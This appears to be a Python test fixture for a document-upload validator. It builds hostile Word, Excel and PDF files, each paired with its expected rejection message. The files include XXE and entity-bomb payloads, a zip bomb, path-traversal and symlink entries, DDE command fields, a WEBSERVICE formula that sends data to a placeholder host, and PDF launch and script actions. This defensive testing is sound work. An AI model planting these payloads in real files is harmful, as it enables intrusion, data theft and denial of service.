"""Hostile files: the name of each, how it is made, and what the sentence that refuses it says."""

from __future__ import annotations

import random
import zipfile
from collections.abc import Callable
from typing import Final

import pikepdf

from tests.hostile_office import OFFICE
from tests.upload_corpus import (
    SHEET_TYPE,
    TEXT,
    WORD_TYPE,
    action,
    annotation,
    link,
    links,
    named_file,
    packed,
    paragraph,
    pdf,
    sheet,
    sheet_parts,
    types,
    with_attachment,
    with_link,
    with_root,
    with_stream,
    with_trailer,
    word,
    word_parts,
    word_with,
    workbook_with,
)

_MACRO_WORD: Final = "application/vnd.ms-word.document.macroEnabled.main+xml"
_MACRO_SHEET: Final = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_BIN: Final = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
_OLE: Final = (
    '<Default Extension="bin" '
    'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
)
_ENTITY: Final = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_BOMB: Final = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)


def _field(*words: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in words)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return word(body=paragraph(f"{begin}{runs}{TEXT}"))


def _zip(name: str, content: bytes = b"x") -> bytes:
    return packed(word_parts(), lambda whole: whole.writestr(name, content))


def _encrypted() -> bytes:
    """Every entry says that it is locked."""
    file = bytearray(packed(word_parts()))
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = file.find(signature)
        while start >= 0:
            file[start + at] |= 1
            start = file.find(signature, start + 4)
    return bytes(file)


def _symlink() -> bytes:
    entry = zipfile.ZipInfo("word/media/image.png")
    entry.external_attr = 0o120777 << 16
    return packed(word_parts(), lambda whole: whole.writestr(entry, "/etc/passwd"))


def _workbook(state: str) -> bytes:
    text = str(sheet_parts()["xl/workbook.xml"])
    return workbook_with({"xl/workbook.xml": text.replace("<sheet ", f'<sheet state="{state}" ')})


def _rows(rows: str, columns: str = "") -> bytes:
    return workbook_with({"xl/worksheets/sheet1.xml": sheet(rows, columns)})


def _cut() -> bytes:
    return pdf()[:-200]


def _noise() -> bytes:
    return b"PK\x03\x04" + random.Random(7).randbytes(4000)  # noqa: S311 - noise, not a secret


# name: (how it is made, what the sentence says)
HOSTILE: Final[dict[str, tuple[Callable[[], bytes], str]]] = {
    "empty.pdf": (lambda: b"", "is empty"),
    "large.pdf": (lambda: pdf() + b"\n%" + b"x" * 21_000_000 + b"\n%%EOF", "larger than 20 MB"),
    "page.docx": (lambda: b"<html><script>alert(1)</script></html>", "a kind that is not let in"),
    "program.docx": (lambda: b"MZ\x90\x00" + b"\0" * 200, "a kind that is not let in"),
    "old.docx": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old format"),
    "picture.pdf": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 60, "a kind that is not let in"),
    "word.pdf": (word, "a Word document, but its name ends in “.pdf”"),
    "sheet.docx": (lambda: packed(sheet_parts()), "an Excel workbook, but its name ends"),
    "macros.docx": (
        lambda: word_with({"word/vbaProject.bin": b"\xd0\xcf"}, _BIN),
        "holds macros",
    ),
    "macros.xlsx": (
        lambda: workbook_with({"xl/vbaProject.bin": b"\xd0\xcf"}, _BIN),
        "holds macros",
    ),
    "macro-type.docx": (
        lambda: word(types=types("word/document.xml", _MACRO_WORD)),
        "holds macros",
    ),
    "macro-type.xlsx": (
        lambda: packed(
            sheet_parts() | {"[Content_Types].xml": types("xl/workbook.xml", _MACRO_SHEET)}
        ),
        "holds macros",
    ),
    "old-macros.xlsx": (
        lambda: workbook_with({"xl/macrosheets/sheet1.xml": sheet("")}),
        "holds macros",
    ),
    "ribbon.docx": (lambda: word_with({"customUI/customUI.xml": "<customUI/>"}), "holds macros"),
    "object.docx": (
        lambda: word_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf"}, _OLE),
        "another file or an active object",
    ),
    "sheet-inside.docx": (
        lambda: word_with({"word/embeddings/prices.xlsx": packed(sheet_parts())}),
        "another file or an active object",
    ),
    "control.docx": (
        lambda: word_with({"word/activeX/activeX1.xml": "<ax/>"}),
        "another file or an active object",
    ),
    "program-inside.docx": (
        lambda: word_with({"word/media/run.exe": b"MZ"}),
        "a part of an unknown kind",
    ),
    "template.docx": (
        lambda: word(links=links(link("attachedTemplate", "https://example.org/t.dotm"))),
        "linked to another file",
    ),
    "remote-picture.docx": (
        lambda: word(links=links(link("image", "https://example.org/seen.png"))),
        "linked to another file",
    ),
    "share.docx": (
        lambda: word(links=links(link("hyperlink", "file://server/share/x"))),
        "linked to another file",
    ),
    "script-link.docx": (
        lambda: word(links=links(link("hyperlink", "javascript:alert(1)"))),
        "linked to another file",
    ),
    "outside.xlsx": (
        lambda: workbook_with({"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
        "data from another file",
    ),
    "database.xlsx": (
        lambda: workbook_with({"xl/connections.xml": "<connections/>"}),
        "data from another file",
    ),
    "pivot.xlsx": (
        lambda: workbook_with({"xl/pivotCache/pivotCacheRecords1.xml": "<records/>"}),
        "pivot table",
    ),
    "dde.docx": (lambda: _field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "fetches or runs"),
    "dde-in-pieces.docx": (lambda: _field("DDE", "AUTO cmd"), "fetches or runs"),
    "include.docx": (lambda: _field(" INCLUDETEXT secrets.docx"), "fetches or runs"),
    "simple-field.docx": (
        lambda: word(body=paragraph('<w:fldSimple w:instr="INCLUDEPICTURE x"/>')),
        "fetches or runs",
    ),
    "dde.xlsx": (lambda: _rows("<row><c><f>cmd|'/c calc'!A0</f></c></row>"), "asks another file"),
    "web.xlsx": (
        lambda: _rows('<row><c><f>WEBSERVICE("http://x/"&amp;A1)</f></c></row>'),
        "asks another file",
    ),
    "other-book.xlsx": (
        lambda: _rows("<row><c><f>[1]Prices!A1</f></c></row>"),
        "asks another file",
    ),
    "tracked.docx": (
        lambda: word(body=paragraph(f"<w:del><w:r><w:delText>£3m</w:delText></w:r></w:del>{TEXT}")),
        "tracked changes",
    ),
    "hidden-text.docx": (
        lambda: word(body=paragraph("<w:r><w:rPr><w:vanish/></w:rPr><w:t>£3m</w:t></w:r>")),
        "hidden text",
    ),
    "comments.docx": (lambda: word_with({"word/comments.xml": "<c/>"}), "has comments"),
    "hidden-sheet.xlsx": (lambda: _workbook("hidden"), "hidden sheet, “Costs”"),
    "very-hidden-sheet.xlsx": (lambda: _workbook("veryHidden"), "hidden sheet, “Costs”"),
    "hidden-row.xlsx": (lambda: _rows('<row hidden="1"><c><v>9</v></c></row>'), "hidden rows"),
    "hidden-column.xlsx": (
        lambda: _rows("<row/>", '<cols><col min="1" max="1" hidden="true"/></cols>'),
        "hidden rows or columns",
    ),
    "entity.docx": (lambda: word(body=_ENTITY + paragraph(TEXT)), "declares what no document"),
    "laughs.docx": (lambda: word(body=_BOMB + paragraph(TEXT)), "declares what no document"),
    "entity-in-types.docx": (
        lambda: word(types=types("word/document.xml", WORD_TYPE).replace("?>", f"?>{_ENTITY}")),
        "declares what no document",
    ),
    "bomb.docx": (lambda: _zip("word/media/a.png", b"\0" * 30_000_000), "unpacks to far more"),
    "many.docx": (
        lambda: word_with({f"word/media/{n}.png": b"" for n in range(2001)}),
        "more parts than any document",
    ),
    "climb.docx": (lambda: _zip("../../etc/cron.d/x.xml"), "land outside it"),
    "absolute.docx": (lambda: _zip("/etc/x.xml"), "land outside it"),
    "drive.docx": (lambda: _zip("C:\\x.xml"), "land outside it"),
    "symlink.docx": (_symlink, "land outside it"),
    "twice.docx": (lambda: _zip("Word/Document.xml"), "two parts of one name"),
    "locked.docx": (_encrypted, "locked with a password"),
    "before.docx": (lambda: b"PK\x03\x04" + word(), "before, after or between the parts"),
    "after.docx": (
        lambda: word() + b"<script>alert(1)</script>",
        "before, after or between the parts",
    ),
    "noise.docx": (_noise, "is damaged"),
    "broken-xml.docx": (lambda: word(body="<w:document"), "is damaged"),
    "any.docx": (lambda: packed({"readme.txt": "hello"}), "neither a Word document"),
    "two-in-one.docx": (
        lambda: word_with(
            {"xl/workbook.xml": "<workbook/>"},
            f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET_TYPE}"/>',
        ),
        "neither a Word document",
    ),
    "script.pdf": (
        lambda: with_root("/OpenAction", action("/JavaScript", JS=pikepdf.String("app.alert(1)"))),
        "The PDF holds",
    ),
    "script-tree.pdf": (
        lambda: with_root(
            "/Names",
            pikepdf.Dictionary(
                JavaScript=pikepdf.Dictionary(
                    Names=pikepdf.Array([pikepdf.String("x"), action("/JavaScript")])
                )
            ),
        ),
        "The PDF holds scripts",
    ),
    "by-itself.pdf": (
        lambda: with_root("/AA", pikepdf.Dictionary(WC=action("/Named"))),
        "actions that run by themselves",
    ),
    "launch.pdf": (lambda: with_link("/Launch", F=pikepdf.String("cmd.exe")), "starts a program"),
    "send.pdf": (lambda: with_link("/SubmitForm", F=pikepdf.String("x")), "sent somewhere"),
    "elsewhere.pdf": (lambda: with_link("/GoToR", F=pikepdf.String("x.pdf")), "other files"),
    "thread.pdf": (lambda: with_link("/Thread", F=pikepdf.String("x.pdf")), "other files"),
    "share.pdf": (
        lambda: with_link("/URI", URI=pikepdf.String("file://server/share/x")),
        "links that lead to no page of the web",
    ),
    "script-link.pdf": (
        lambda: with_link("/URI", URI=pikepdf.String("javascript:alert(1)")),
        "links that lead to no page of the web",
    ),
    "next-link.pdf": (
        lambda: with_link(
            "/URI",
            URI=pikepdf.String("https://www.gov.uk/"),
            Next=action("/GoToR", F=pikepdf.String("x.pdf")),
        ),
        "links to other files",
    ),
    "drawn-elsewhere.pdf": (
        lambda: with_stream(F=pikepdf.String("http://example.org/drawing")),
        "content that lies in other files",
    ),
    "page-elsewhere.pdf": (
        lambda: with_stream(
            Ref=pikepdf.Dictionary(F=pikepdf.String("x.pdf"), Page=pikepdf.String("1"))
        ),
        "content that lies in other files",
    ),
    "file-named.pdf": (
        lambda: with_root("/AF", pikepdf.Array([named_file("x.xlsx")])),
        "links to other files",
    ),
    "script-in-trailer.pdf": (
        lambda: with_trailer("/Foo", action("/JavaScript", JS=pikepdf.String("app.alert(1)"))),
        "The PDF holds scripts",
    ),
    "attachment.pdf": (with_attachment, "The PDF holds other files"),
    "clip.pdf": (
        lambda: pdf(lambda document: annotation(document, Subtype=pikepdf.Name.FileAttachment)),
        "The PDF holds other files",
    ),
    "film.pdf": (
        lambda: pdf(lambda document: annotation(document, Subtype=pikepdf.Name.RichMedia)),
        "films or sound",
    ),
    "xfa.pdf": (
        lambda: with_root("/AcroForm", pikepdf.Dictionary(XFA=pikepdf.Array([]))),
        "a form with a program",
    ),
    "locked.pdf": (
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
        "locked with a password",
    ),
    "cut.pdf": (_cut, "its end is missing"),
    "tail.pdf": (lambda: pdf() + b"PK\x03\x04 a zip follows", "Something stands after the end"),
    "head.pdf": (lambda: b"<html>" + pdf(), "a kind that is not let in"),
    "scrambled.pdf": (
        lambda: pdf().replace(b"startxref", b"startxxxx").replace(b"xref", b"yref"),
        "The PDF is damaged",
    ),
    **OFFICE,
}
